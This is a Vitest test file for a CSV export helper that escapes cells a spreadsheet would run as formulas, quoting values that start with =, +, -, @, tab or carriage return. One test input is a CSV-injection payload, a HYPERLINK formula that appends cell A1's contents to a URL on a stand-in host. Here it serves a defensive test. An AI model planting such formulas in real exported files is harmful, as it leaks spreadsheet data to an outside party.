// Cells a spreadsheet would run as formulas come out as text (decision 102).
import { describe, expect, it } from 'vitest';
import { csvCell, csvLines } from './csv.js';

describe('csvCell', () => {
  it('neutralises every formula start: a leading quote, and the cell quoted', () => {
    expect(csvCell('=HYPERLINK("http://x.example/?d="&A1,"Open")')).toBe(
      `"'=HYPERLINK(""http://x.example/?d=""&A1,""Open"")"`,
    );
    expect(csvCell('+1+1')).toBe(`"'+1+1"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvCell('\t=1')).toBe(`"'\t=1"`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('keeps plain numbers, negative amounts included, and quotes only what needs it', () => {
    expect(csvCell('-12.50')).toBe('-12.50');
    expect(csvCell(-7)).toBe('-7');
    expect(csvCell('1234.56')).toBe('1234.56');
    expect(csvCell('borrower cannot be found')).toBe('borrower cannot be found');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
    expect(csvCell(null)).toBe('');
    expect(
      csvLines([
        ['A', 'B'],
        ['=1', '-1.00'],
      ]),
    ).toBe(`A,B\r\n"'=1",-1.00\r\n`);
  });
});
